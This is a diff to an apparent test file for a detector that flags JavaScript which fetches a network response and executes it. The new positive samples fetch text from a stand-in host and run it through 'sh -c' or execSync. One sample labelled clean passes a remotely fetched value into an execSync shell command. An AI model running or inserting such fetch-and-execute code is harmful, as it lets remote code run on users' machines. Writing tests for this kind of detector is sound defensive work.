@@ -14,6 +14,8 @@ describe("fetchedCodeRun: a response that reaches a code sink", () => {
     'const src = await (await fetch("https://x.example.net/m.mjs")).text(); await import("data:text/javascript," + encodeURIComponent(src));',
     'const { data } = await axios.get("https://x.example.net/s.js"); vm.runInNewContext(data, {});',
     'let body = await fetch(u); let js = await body.text(); const f = Function("ctx", js); f({});',
+    'const r = await fetch("https://x.example.net/i.sh"); const s = await r.text(); spawn("sh", ["-c", s], { detached: true });',
+    'const cmd = await (await fetch("https://x.example.net/c")).text(); execSync(cmd, { stdio: "ignore" });',
   ])("found, and blocked as code: %s", (t) => {
     expect(fetchedCodeRun(t)).not.toBeNull();
     expect(code(t)).toBeGreaterThanOrEqual(0.8);
@@ -24,6 +26,8 @@ describe("fetchedCodeRun: a response that reaches a code sink", () => {
     'const mod = await import("./scripts/report.mjs"); const r = await fetch("https://api.example.net/x"); console.log(await r.text());',
     'const r = await fetch("https://api.example.net/schema"); const schema = JSON.parse(await r.text()); const ok = new Function("x", "return typeof x === \\"object\\""); console.log(ok(schema));',
     'const add = new Function("a", "b", "return a + b"); console.log(add(1, 2));',
+    'const r = await fetch("https://api.example.net/release"); const { tag } = await r.json(); execSync(`git checkout ${tag}`);',
+    'const r = await fetch("https://api.example.net/ok"); const up = r.ok; const out = execSync("git status --short").toString();',
   ])("clean look-alike: %s", (t) => {
     expect(fetchedCodeRun(t)).toBeNull();
     expect(code(t)).toBeLessThan(0.5);
